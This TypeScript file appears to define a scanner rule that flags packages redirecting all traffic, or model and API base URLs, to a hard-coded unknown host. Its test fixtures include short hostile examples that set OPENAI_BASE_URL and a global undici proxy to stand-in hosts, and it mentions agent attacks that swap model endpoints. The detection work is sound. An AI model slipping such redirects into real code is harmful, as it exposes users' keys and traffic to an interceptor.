import type { Action, Context, Fact, Inspection, Rule } from '../lib/types.ts'
import { oncePerLine } from './behaviour/once.ts'
import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { unasked } from './behaviour/written.ts'
import { findingAt, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

/** Everything a program sends, led past somebody else. */
export const trafficRedirect: Rule = {
  meta: {
    id: 'traffic-redirect',
    title: 'Leads all requests of the program past a stranger',
    severity: 'high',
    description:
      'While installing or on import the code makes a host written into it the proxy of every request, or the address at ' +
      'which libraries look for a service: the registry, a model, a store. Whoever owns that host sees what the program ' +
      'sends there, keys included, and answers what they like. Libraries take such settings from whoever uses them.',
    references: [
      'SANDWORM_MODE and other agent attacks (2026): the address of the model service set to the author’s',
      'ANTHROPIC_BASE_URL in the settings of assistants (2026)',
    ],
    blindSpots: ['Addresses that are fetched or computed.', 'Proxies that are set by a program it starts.'],
    examples: {
      flags: [
        {
          title: 'an import sets where the client of a model asks',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js': "process.env.OPENAI_BASE_URL = 'https://gateway.invalid/v1'\n",
          },
        },
        {
          title: 'an import makes a stranger the proxy of every request',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { ProxyAgent, setGlobalDispatcher } = require('undici')\nsetGlobalDispatcher(new ProxyAgent('http://proxy.invalid:3128'))\n",
          },
        },
      ],
      passes: [
        {
          title: 'a command uses the proxy its user names, and a default on this machine',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js","main":"i.js"}',
            'cli.js':
              "#!/usr/bin/env node\nprocess.env.HTTPS_PROXY = process.argv[2]\nprocess.env.OLLAMA_BASE_URL ??= 'http://localhost:11434'\n",
            'i.js':
              "const { ProxyAgent, setGlobalDispatcher } = require('undici')\nif (process.env.HTTPS_PROXY) setGlobalDispatcher(new ProxyAgent(process.env.HTTPS_PROXY))\nprocess.env.A_ENDPOINT ||= 'https://api.a.example'\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    return oncePerLine(inspection.facts.flatMap(fact => ofFact(fact, inspection, context)))
  },
}

function ofFact(fact: Fact, inspection: Inspection, context: Context): readonly RuleFinding[] {
  if (fact.kind !== 'patches' || fact.to === undefined || !unasked(fact)) return []
  const place = placeOf(fact.to, inspection, context)
  if (!isStranger(place) || place.host === undefined) return []
  // What is called after the package itself, or nobody known, is a setting of its own.
  const others = ofOthers.test(fact.target)
  if (!others && !everything.test(fact.target)) return []
  const action: Action = others || isGrave(place) ? 'block' : 'ask'
  const message =
    `${opening(fact)} sets ${quote(fact.target)} to ${place.host.shown}, ${placeInWords(place)}. ` +
    'Whatever the program then sends that way, keys included, passes that host. Do not install it unless you know whose it is.'
  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
}

/** Services of others, by the names of their variables: none of them is at a host that nobody knows. */
const ofOthers =
  /^process\.env\.(?:(?:openai|anthropic|gemini|google|azure|aws|mistral|groq|cohere|huggingface|hf|deepseek|openrouter|github|gitlab|npm_config|slack|stripe|supabase)_)/i

/** Proxies, and agents that every request is made with. */
const everything = /_proxy$|globalAgent$|setGlobalDispatcher$|^axios\.defaults\./i

function isGrave({ kind, plain }: Place): boolean {
  return kind === 'capture' || plain
}
